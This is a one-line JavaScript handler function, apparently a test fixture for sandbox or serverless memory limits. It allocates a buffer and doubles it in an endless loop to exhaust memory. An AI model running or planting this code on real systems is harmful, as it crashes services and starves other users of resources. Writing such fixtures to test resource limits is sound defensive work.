function handler(event) { var b = Buffer.alloc(100000, 'x'); for (;;) b = Buffer.concat([b, b]); }
